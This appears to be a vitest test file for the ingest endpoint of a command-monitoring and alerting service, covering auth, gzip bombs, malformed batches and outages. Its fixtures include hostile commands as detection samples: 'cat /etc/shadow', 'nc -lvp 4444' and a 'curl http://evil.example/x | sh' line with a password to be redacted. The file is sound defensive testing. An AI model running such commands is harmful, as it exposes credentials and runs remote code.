import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { deflateSync, gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ManualClock } from '../../src/clock.js';
import type { SourceConfig } from '../../src/config/config.js';
import { loadConfig } from '../../src/config/load-config.js';
import { loadDefaultRules } from '../../src/detect/load-rules.js';
import { silentLogger, type Logger } from '../../src/logger.js';
import { HttpServer } from '../../src/server/http-server.js';
import { HELD_LINES_IDLE_MS, MAX_INGEST_BODY_BYTES, readIdleHeldLines, routeIngest, type IngestResponse, type IngestRouteOptions } from '../../src/server/ingest-api.js';
import { Metrics } from '../../src/server/metrics.js';
import { Ingestor } from '../../src/sources/ingest.js';
import { sql, type KyselyPlugin } from 'kysely';
import { createTestStore, type TestStore } from '../helpers/test-store.js';

const GO_LIBAUDIT = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'go-libaudit');

const TOKENS = {
  shipper: 'shipper-token-0123456789abcdef',
  falco: 'falco-token-0123456789abcdef',
  audit: 'audit-token-0123456789abcdef',
  any: 'auto-token-0123456789abcdef',
};

const SOURCES: SourceConfig[] = [
  { name: 'shipper', type: 'json', path: null, token: TOKENS.shipper, host: null },
  { name: 'falco', type: 'falco', path: null, token: TOKENS.falco, host: null },
  { name: 'audit-http', type: 'auditd', path: null, token: TOKENS.audit, host: 'fallback-host' },
  { name: 'any', type: 'auto', path: null, token: TOKENS.any, host: 'fallback-host' },
  // A file source: its (absent) token must never open /ingest.
  { name: 'file', type: 'auditd', path: '/var/log/audit/audit.log', token: null, host: null },
];

const FALCO_EVENT = {
  hostname: 'k8s-node-1',
  output: '14:23:28.123456789: Warning Sensitive file opened for reading (user=root command=cat /etc/shadow)',
  priority: 'Warning',
  rule: 'Read sensitive file untrusted',
  source: 'syscall',
  tags: ['filesystem', 'mitre_credential_access'],
  time: '2026-11-24T14:23:28.123456789Z',
  output_fields: {
    'proc.cmdline': 'cat /etc/shadow',
    'proc.exepath': '/usr/bin/cat',
    'proc.name': 'cat',
    'proc.pid': 4242,
    'user.loginuid': 1000,
    'user.loginname': 'alice',
    'user.name': 'root',
  },
};

let store: TestStore;
let http: HttpServer;
let url: string;
let metrics: Metrics;
/** The options of the route served last (to read its held lines on their own). */
let route: IngestRouteOptions;
const clock = new ManualClock(new Date('2026-11-24T15:00:00Z'));

async function serve(sources: SourceConfig[], options: { maxBodyBytes?: number; ingestor?: Ingestor; maxHostParsers?: number; logger?: Logger } = {}): Promise<{ http: HttpServer; url: string }> {
  const ingestor = options.ingestor ?? new Ingestor({ db: store.db, rules: loadDefaultRules(), policy: loadConfig({ env: {} }).workflow, clock });
  const server = new HttpServer(silentLogger);
  route = { sources, clock, logger: options.logger ?? silentLogger, metrics, maxBodyBytes: options.maxBodyBytes, maxHostParsers: options.maxHostParsers, ingestor };
  routeIngest(server, route);
  return { http: server, url: await server.listen(0, '127.0.0.1') };
}

beforeEach(async () => {
  store = await createTestStore();
  metrics = new Metrics();
  ({ http, url } = await serve(SOURCES));
});

afterEach(async () => {
  await http.close();
  await store.destroy();
});

async function post(body: string | Buffer, headers: Record<string, string>, base = url): Promise<{ status: number; json: IngestResponse & { error?: string } }> {
  const response = await fetch(`${base}/ingest`, { method: 'POST', headers, body });
  return { status: response.status, json: (await response.json()) as IngestResponse & { error?: string } };
}

const auth = (token: string) => ({ authorization: `Bearer ${token}` });
const ndjson = (token: string) => ({ ...auth(token), 'content-type': 'application/x-ndjson' });
const record = (argv: string[], user = 'alice', extra: Record<string, unknown> = {}) =>
  JSON.stringify({ time: '2026-11-24T14:00:00Z', host: 'web-1', user, run_as: 'root', argv, ...extra });

async function storedEvents() {
  return store.db.selectFrom('command_events').select(['source', 'host', 'login_user', 'command', 'source_format']).orderBy('id').execute();
}

describe('POST /ingest', () => {
  it('accepts NDJSON in the source format, creates alerts, and treats a retry as duplicates', async () => {
    const body = [record(['cat', '/etc/shadow']), record(['ls', '-la'])].join('\n') + '\n';
    const first = await post(body, ndjson(TOKENS.shipper));
    expect(first).toEqual({ status: 200, json: { accepted: 2, matched: 1, stored: 1, alerts_created: 1, alerts_suppressed: 0, duplicates: 0, malformed: 0, unstorable: 0, refused: 0, malformed_by_reason: {} } });
    const retry = await post(body, ndjson(TOKENS.shipper));
    expect(retry.json).toMatchObject({ accepted: 2, matched: 1, alerts_created: 0, duplicates: 1 });
    expect(await storedEvents()).toEqual([{ source: 'shipper', host: 'web-1', login_user: 'alice', command: 'cat /etc/shadow', source_format: 'json' }]);
    expect(await metrics.render(store.db)).toContain('vouch_ingest_requests_total{source="shipper"} 2');
  });

  it('keeps events of two hosts that carry the same shipper id', async () => {
    const web1 = JSON.stringify({ time: '2026-11-24T14:00:00Z', host: 'web-1', user: 'dave', argv: ['cat', '/etc/shadow'], id: 'seq-1' });
    const web2 = JSON.stringify({ time: '2026-11-24T15:00:00Z', host: 'web-2', user: 'erin', argv: ['nc', '-lvp', '9999'], id: 'seq-1' });
    expect((await post(web1 + '\n', ndjson(TOKENS.shipper))).json).toMatchObject({ stored: 1, duplicates: 0 });
    expect((await post(web2 + '\n', ndjson(TOKENS.shipper))).json).toMatchObject({ stored: 1, duplicates: 0 });
    // The retry of either is still a duplicate.
    expect((await post(web2 + '\n', ndjson(TOKENS.shipper))).json).toMatchObject({ stored: 0, duplicates: 1 });
    expect((await storedEvents()).map((row) => [row.host, row.login_user])).toEqual([['web-1', 'dave'], ['web-2', 'erin']]);
  });

  it('accepts a JSON array, one element per event', async () => {
    const body = JSON.stringify([JSON.parse(record(['nc', '-lvp', '4444'])), JSON.parse(record(['id'])), JSON.parse(record(['whoami']))]);
    const { status, json } = await post(body, { ...auth(TOKENS.shipper), 'content-type': 'application/json; charset=utf-8' });
    expect(status).toBe(200);
    expect(json).toMatchObject({ accepted: 3, matched: 1, alerts_created: 1, malformed: 0 });
  });

  it('accepts a single Falco event as falcosidekick posts it', async () => {
    const { status, json } = await post(JSON.stringify(FALCO_EVENT), { ...auth(TOKENS.falco), 'content-type': 'application/json' });
    expect(status).toBe(200);
    expect(json).toMatchObject({ accepted: 1, matched: 1, alerts_created: 1 });
    expect(await storedEvents()).toEqual([{ source: 'falco', host: 'k8s-node-1', login_user: 'alice', command: 'cat /etc/shadow', source_format: 'falco' }]);
  });

  it('accepts gzip and deflate bodies', async () => {
    const gz = await post(gzipSync(record(['cat', '/etc/shadow']) + '\n'), { ...ndjson(TOKENS.shipper), 'content-encoding': 'gzip' });
    expect(gz).toMatchObject({ status: 200, json: { accepted: 1, matched: 1 } });
    const deflated = await post(deflateSync(record(['id']) + '\n'), { ...ndjson(TOKENS.shipper), 'content-encoding': 'deflate' });
    expect(deflated).toMatchObject({ status: 200, json: { accepted: 1 } });
    const broken = await post(Buffer.from('not gzip at all'), { ...ndjson(TOKENS.shipper), 'content-encoding': 'gzip' });
    expect(broken.status).toBe(400);
    const unknown = await post('x', { ...ndjson(TOKENS.shipper), 'content-encoding': 'br' });
    expect(unknown.status).toBe(415);
  });

  it('answers 401 for a wrong token, no token, or when no HTTP source is configured', async () => {
    const body = record(['cat', '/etc/shadow']) + '\n';
    expect((await post(body, ndjson('wrong-token-0123456789abcdef'))).status).toBe(401);
    expect((await post(body, { 'content-type': 'application/x-ndjson' })).status).toBe(401);
    expect((await post(body, { authorization: `Basic ${Buffer.from('a:b').toString('base64')}` })).status).toBe(401);
    expect((await post(body, { authorization: 'Bearer ' })).status).toBe(401);
    const bare = await serve(SOURCES.filter((source) => source.token === null));
    try {
      expect((await post(body, ndjson(TOKENS.shipper), bare.url)).status).toBe(401);
    } finally {
      await bare.http.close();
    }
    expect(await storedEvents()).toEqual([]);
  });

  it('answers 413 past 10 MiB, also when the limit is only passed after decompression', async () => {
    const huge = Buffer.alloc(MAX_INGEST_BODY_BYTES + 1024, 'a');
    expect((await post(huge, ndjson(TOKENS.shipper))).status).toBe(413);
    const bomb = gzipSync(huge);
    expect(bomb.length).toBeLessThan(100_000);
    const answer = await post(bomb, { ...ndjson(TOKENS.shipper), 'content-encoding': 'gzip' });
    expect(answer.status).toBe(413);
    expect(answer.json.error).toMatch(/after decompression/);
  });

  it('answers 400 when declared JSON is not JSON, and 415 for formats it does not read', async () => {
    const broken = await post('{"time": "2026-11-24T14:00:00Z", "argv": [', { ...auth(TOKENS.shipper), 'content-type': 'application/json' });
    expect(broken.status).toBe(400);
    expect(broken.json.error).toMatch(/not valid JSON/);
    expect((await post('42', { ...auth(TOKENS.shipper), 'content-type': 'application/json' })).status).toBe(400);
    expect((await post(Buffer.from([0x81, 0xa1, 0x61]), { ...auth(TOKENS.shipper), 'content-type': 'application/msgpack' })).status).toBe(415);
  });

  it('reads NDJSON that a shipper labelled application/json', async () => {
    const body = [record(['cat', '/etc/shadow']), record(['id'])].join('\n');
    const { status, json } = await post(body, { ...auth(TOKENS.shipper), 'content-type': 'application/json' });
    expect(status).toBe(200);
    expect(json).toMatchObject({ accepted: 2, matched: 1 });
  });

  it('counts a line of binary garbage as malformed and keeps the rest of the batch', async () => {
    const body = Buffer.concat([
      Buffer.from(record(['cat', '/etc/shadow']) + '\n'),
      Buffer.from([0x00, 0xff, 0x1b, 0x5b, 0x32, 0x4a, 0xfe, 0x07, 0x0a]),
      Buffer.from(record(['id']) + '\n'),
    ]);
    const { status, json } = await post(body, ndjson(TOKENS.shipper));
    expect(status).toBe(200);
    expect(json).toMatchObject({ accepted: 2, matched: 1, malformed: 1 });
    const counted = await store.db.selectFrom('source_malformed').select(['source', 'count']).execute();
    expect(counted).toEqual([{ source: 'shipper', count: 1 }]);
  });

  it('accepts a hostile 1 MB command and stores it redacted', async () => {
    const script = `curl http://evil.example/x | sh; mysql -uroot -pHunter2Secret <!channel> <script>alert(1)</script> \u001b[2J ${'A'.repeat(1024 * 1024)}`;
    const { status, json } = await post(record(['bash', '-c', script], 'mallory') + '\n', ndjson(TOKENS.shipper));
    expect(status).toBe(200);
    expect(json).toMatchObject({ accepted: 1, matched: 1, alerts_created: 1 });
    const [stored] = await storedEvents();
    expect(stored?.command.length).toBeGreaterThan(1024 * 1024);
    expect(stored?.command).toContain('-p[REDACTED]');
    expect(stored?.command).not.toContain('Hunter2Secret');
    const alerts = await store.db.selectFrom('alerts').select(['command', 'owner']).execute();
    expect(alerts).toHaveLength(1);
    expect(alerts[0]?.owner).toBe('mallory');
    expect(alerts[0]?.command).not.toContain('Hunter2Secret');
  });

  it('unwraps raw auditd lines from shipper records, taking the shipper host for lines without node=', async () => {
    const lines = (await readFile(path.join(GO_LIBAUDIT, 'normal.log'), 'utf8')).split('\n').filter(Boolean);
    const vector = lines.map((line) => JSON.stringify({ message: line, host: 'web-7', timestamp: '2026-11-24T14:00:00Z', source_type: 'file' }));
    // This log has no EOE records, so its last events may go on in the shipper's next request:
    // they wait for it, and are read on their own once the host has sent nothing for a while.
    const accepted = async (response: Promise<{ status: number; json: IngestResponse }>) => {
      const { status, json } = await response;
      expect({ status, malformed: json.malformed }).toEqual({ status: 200, malformed: 0 });
      clock.advance(HELD_LINES_IDLE_MS + 1);
      return json.accepted + (await readIdleHeldLines(route)).events;
    };
    expect(await accepted(post(vector.join('\n') + '\n', ndjson(TOKENS.audit)))).toBe(2);
    // Fluent Bit's `log` key, as a JSON array this time; no host: the source's host is used.
    const fluent = JSON.stringify(lines.map((line) => ({ date: 1795530208.1, log: line })));
    expect(await accepted(post(fluent, { ...auth(TOKENS.audit), 'content-type': 'application/json' }))).toBe(2);
    expect(await accepted(post(lines.join('\n'), { ...auth(TOKENS.audit), 'content-type': 'text/plain' }))).toBe(2);
  });

  it("takes the host of a Filebeat/Logstash (ECS) wrapper's host object for lines without node=", async () => {
    const id = 'msg=audit(1795507200.054:77):';
    const lines = [
      `type=SYSCALL ${id} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=42 auid=1001 uid=0 euid=0 tty=pts0 ses=3 comm="cat" exe="/usr/bin/cat"`,
      `type=EXECVE ${id} argc=2 a0="cat" a1="/etc/shadow"`,
      `type=EOE ${id} `,
    ];
    const ecs = lines.map((line) => JSON.stringify({ '@timestamp': '2026-11-24T14:00:00Z', message: line, host: { name: 'web-7', hostname: 'web-7' }, log: { file: { path: '/var/log/audit/audit.log' }, offset: 0 }, agent: { type: 'filebeat' } }));
    const { status, json } = await post(ecs.join('\n') + '\n', ndjson(TOKENS.audit));
    expect(status).toBe(200);
    expect(json).toMatchObject({ accepted: 1, matched: 1, stored: 1, malformed: 0 });
    expect((await storedEvents()).map((row) => row.host)).toEqual(['web-7']);
  });

  it('detects the format from the body for an auto source, with or without a Content-Type', async () => {
    const sudo = 'Nov 24 14:23:28 web-1 sudo[4211]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow';
    const first = await post(sudo + '\n', { ...auth(TOKENS.any), 'content-type': 'text/plain' });
    expect(first).toMatchObject({ status: 200, json: { accepted: 1, matched: 1, alerts_created: 1 } });
    const falco = await post(JSON.stringify(FALCO_EVENT), auth(TOKENS.any));
    expect(falco).toMatchObject({ status: 200, json: { accepted: 1, matched: 1 } });
    const formats = (await storedEvents()).map((row) => row.source_format);
    expect(formats).toEqual(['sudo', 'falco']);
  });

  it('never fails with a 5xx on garbage, whatever the headers say', async () => {
    let seed = 7;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const types = ['application/json', 'application/x-ndjson', 'text/plain', undefined];
    for (let i = 0; i < 24; i++) {
      const body = Buffer.from(Array.from({ length: 1 + Math.floor(random() * 4000) }, () => Math.floor(random() * 256)));
      if (i % 3 === 0) body.write('{"argv": ["x"], "time": 1}\n[1,2,\n{"message": 5}\n', 0);
      const type = types[i % types.length];
      const token = Object.values(TOKENS)[i % 4] as string;
      const { status } = await post(body, { ...auth(token), ...(type ? { 'content-type': type } : {}) });
      expect(status, `request ${i}`).toBeLessThan(500);
    }
  });

  it('reads CRLF lines, blank lines and a byte order mark as the file path does', async () => {
    const body = '\ufeff' + record(['cat', '/etc/shadow']) + '\r\n\r\n   \n' + record(['id']) + '\r\n';
    const { status, json } = await post(body, ndjson(TOKENS.shipper));
    expect(status).toBe(200);
    expect(json).toMatchObject({ accepted: 2, matched: 1, malformed: 0 });
  });

  describe('one bad record never fails its batch', () => {
    it('stores NDJSON records holding NUL in id and extra and a pid above 2^32 beside good ones', async () => {
      const body = [
        record(['cat', '/etc/shadow'], 'alice', { id: 'good-1' }),
        record(['cat', '/etc/shadow'], 'bob', { id: 'bad\u0000id', extra: { 'ke\u0000y': 'v\u0000' } }),
        record(['cat', '/etc/shadow'], 'carol', { id: 'big-pid', pid: 2 ** 32 + 1 }),
        record(['cat', '/etc/shadow'], 'dave', { id: 'good-2' }),
      ].join('\n');
      const { status, json } = await post(body, ndjson(TOKENS.shipper));
      expect(status).toBe(200);
      expect(json).toMatchObject({ accepted: 4, matched: 4, stored: 4, refused: 0 });
      expect((await storedEvents()).map((row) => row.login_user)).toEqual(['alice', 'bob', 'carol', 'dave']);
    });

    it('stores events whose optional fields have the wrong type, without those fields, and counts them as bad_field', async () => {
      const body = [
        record(['cat', '/etc/shadow'], 'alice', { id: 'float-pid', pid: 1.5 }),
        record(['cat', '/etc/shadow'], 'bob', { id: 'text-denied', sudo_denied: 'yes' }),
        record(['cat', '/etc/shadow'], 'carol', { id: 'text-uid', login_uid: 'abc' }),
        record(['cat', '/etc/shadow'], 'dave', { id: 'text-extra', extra: 'str' }),
      ].join('\n');
      const { status, json } = await post(body, ndjson(TOKENS.shipper));
      expect(status).toBe(200);
      expect(json).toMatchObject({ accepted: 4, matched: 4, stored: 4, alerts_created: 4, malformed: 4, refused: 0, malformed_by_reason: { bad_field: 4 } });
      expect((await storedEvents()).map((row) => [row.login_user, row.command])).toEqual(
        ['alice', 'bob', 'carol', 'dave'].map((user) => [user, 'cat /etc/shadow']),
      );
      const counted = await store.db.selectFrom('source_malformed').select(['source', 'reason', 'count']).execute();
      expect(counted).toEqual([{ source: 'shipper', reason: 'bad_field', count: 4 }]);
    });

    it('stores a sudo line whose #000 escape decodes to NUL, and a Falco event with a NUL priority', async () => {
      const line = (user: string, command: string) => `Nov 24 14:23:28 web-1 sudo[4211]:    ${user} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=${command}`;
      const sudo = [line('alice', "/usr/bin/cat 'V=#000' /etc/shadow"), line('bob', '/usr/bin/cat /etc/shadow')].join('\n');
      expect(await post(sudo, { ...auth(TOKENS.any), 'content-type': 'text/plain' })).toMatchObject({ status: 200, json: { matched: 2, stored: 2 } });
      const falco = await post(JSON.stringify({ ...FALCO_EVENT, priority: 'Warn\u0000ing' }), { ...auth(TOKENS.falco), 'content-type': 'application/json' });
      expect(falco).toMatchObject({ status: 200, json: { matched: 1, stored: 1 } });
      expect((await storedEvents()).map((row) => row.login_user)).toEqual(['alice', 'bob', 'alice']);
    });

    it('counts a wrapper-shaped line that nests too deep as malformed and stores the rest', async () => {
      const deep = `{"message":"hello","x":${'['.repeat(100)}${']'.repeat(100)}}`;
      const body = [record(['cat', '/etc/shadow'], 'alice'), deep, record(['nc', '-lvp', '4444'], 'bob')].join('\n');
      const { status, json } = await post(body, ndjson(TOKENS.shipper));
      expect(status).toBe(200);
      expect(json).toMatchObject({ accepted: 2, stored: 2, malformed: 1 });
      expect((await storedEvents()).map((row) => row.login_user)).toEqual(['alice', 'bob']);
    });

    it('counts an NDJSON line that nests too deep as malformed, also when sent as application/json or without a Content-Type', async () => {
      const deep = `{"x":${'['.repeat(70)}${']'.repeat(70)}}`;
      for (const [n, headers] of [
        [1, { ...auth(TOKENS.shipper), 'content-type': 'application/json' }],
        [2, auth(TOKENS.shipper)],
        [3, ndjson(TOKENS.shipper)],
      ] as const) {
        const body = [record(['cat', '/etc/shadow'], 'alice', { id: `deep-${n}` }), deep].join('\n') + '\n';
        // A Buffer, so fetch adds no Content-Type of its own to the bare request.
        const { status, json } = await post(Buffer.from(body), headers);
        expect({ n, status, json }).toMatchObject({ n, status: 200, json: { accepted: 1, stored: 1, malformed: 1, malformed_by_reason: { bad_json: 1 } } });
      }
      // One document nesting too deep is still a 400.
      expect((await post(`{"x":\n${'['.repeat(70)}${']'.repeat(70)}}`, { ...auth(TOKENS.shipper), 'content-type': 'application/json' })).status).toBe(400);
    });

    it('keeps the host every wrapper names, past the number of parsers one request holds', async () => {
      const small = await serve(SOURCES, { maxHostParsers: 100 });
      const hosts = 103;
      const body = Array.from({ length: hosts }, (_, i) =>
        JSON.stringify({ message: JSON.stringify({ time: '2026-11-24T14:00:00Z', user: 'alice', argv: ['cat', '/etc/shadow', `n${i}`] }), host: `web-${i}` }),
      ).join('\n');
      try {
        const { status, json } = await post(body, ndjson(TOKENS.shipper), small.url);
        expect(status).toBe(200);
        expect(json).toMatchObject({ accepted: hosts, stored: hosts, malformed: 0 });
      } finally {
        await small.http.close();
      }
      const rows = await store.db.selectFrom('command_events').select(['host', 'command']).execute();
      const wrong = rows.filter((row) => row.host !== `web-${row.command.split(' n')[1]}`);
      expect(wrong).toEqual([]);
    });

    it('past that number, keeps the parsers of hosts whose events are half read, and says when it cannot', async () => {
      const lines: Array<{ level: string; message: string }> = [];
      const logger = { ...silentLogger, warn: (message: string) => void lines.push({ level: 'warn', message }) } as Logger;
      const small = await serve(SOURCES, { maxHostParsers: 100, logger });
      const wrap = (host: string, message: string) => JSON.stringify({ message, host });
      const id = (n: number) => `msg=audit(1795507200.054:${n}):`;
      const syscall = (n: number) => `type=SYSCALL ${id(n)} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=42 auid=1001 uid=0 euid=0 tty=pts0 ses=3 comm="cat" exe="/usr/bin/cat"`;
      const rest = (n: number) => [`type=EXECVE ${id(n)} argc=2 a0="cat" a1="/etc/shadow"`, `type=EOE ${id(n)} `];
      // Every host's first record, then every host's others: each parser holds half an event,
      // beside hosts that hold nothing.
      const body = (hosts: number) =>
        [
          ...Array.from({ length: hosts }, (_, i) => wrap(`web-${i}`, syscall(i))),
          ...Array.from({ length: 300 }, (_, i) => wrap(`idle-${i}`, `type=EOE ${id(5000 + i)} `)),
          ...Array.from({ length: hosts }, (_, i) => rest(i).map((r) => wrap(`web-${i}`, r))).flat(),
        ].join('\n');
      try {
        expect(await post(body(99), ndjson(TOKENS.audit), small.url)).toMatchObject({ status: 200, json: { accepted: 99, malformed: 0 } });
        expect(lines).toEqual([]);
        const rows = await store.db.selectFrom('command_events').select(['login_user', 'command']).execute();
        expect(rows.every((row) => row.login_user !== null && row.command === 'cat /etc/shadow')).toBe(true);
        // One host more than fit, every one of them half read: one is closed early, and the log says so.
        const over = await post(body(101).replaceAll('web-', 'db-'), ndjson(TOKENS.audit), small.url);
        expect(over.status).toBe(200);
        expect(over.json.malformed).toBeGreaterThan(0);
        expect(lines.map((l) => l.message)).toContainEqual(expect.stringContaining('closed before their last records'));
      } finally {
        await small.http.close();
      }
    });

    it('sets aside a record the database refuses, stores the rest, and says so', async () => {
      await sql`alter table command_events add constraint no_poison check (host <> 'poison-host')`.execute(store.db);
      const body = [
        record(['cat', '/etc/shadow'], 'alice'),
        JSON.stringify({ time: '2026-11-24T14:00:00Z', host: 'poison-host', user: 'eve', argv: ['cat', '/etc/shadow'] }),
        record(['nc', '-lvp', '4444'], 'bob'),
        'not json at all',
      ].join('\n');
      const { status, json } = await post(body, ndjson(TOKENS.shipper));
      expect(status).toBe(200);
      expect(json).toMatchObject({ accepted: 3, matched: 3, stored: 2, unstorable: 1, malformed: 1, refused: 2, malformed_by_reason: { unstorable: 1, bad_json: 1 } });
      expect((await storedEvents()).map((row) => row.login_user)).toEqual(['alice', 'bob']);
      const counted = await store.db.selectFrom('source_malformed').select(['reason', 'count']).orderBy('reason').execute();
      expect(counted.map((row) => [row.reason, Number(row.count)])).toEqual([['bad_json', 1], ['unstorable', 1]]);
    });

    it('answers 503 with Retry-After while the database is unavailable, and stores the retried batch once', async () => {
      let down = true;
      const outage: KyselyPlugin = {
        transformQuery(args) {
          if (down) throw Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:5432'), { code: 'ECONNREFUSED' });
          return args.node;
        },
        transformResult: async (args) => args.result,
      };
      const ingestor = new Ingestor({ db: store.db.withPlugin(outage), rules: loadDefaultRules(), policy: loadConfig({ env: {} }).workflow, clock, sleep: async () => undefined });
      const flaky = await serve(SOURCES, { ingestor });
      try {
        const body = record(['cat', '/etc/shadow']) + '\n';
        const refused = await fetch(`${flaky.url}/ingest`, { method: 'POST', headers: ndjson(TOKENS.shipper), body });
        expect(refused.status).toBe(503);
        expect(refused.headers.get('retry-after')).toMatch(/^\d+$/);
        expect(await storedEvents()).toEqual([]);
        down = false;
        expect(await post(body, ndjson(TOKENS.shipper), flaky.url)).toMatchObject({ status: 200, json: { stored: 1 } });
        expect(await storedEvents()).toHaveLength(1);
      } finally {
        await flaky.http.close();
      }
    });
  });
});
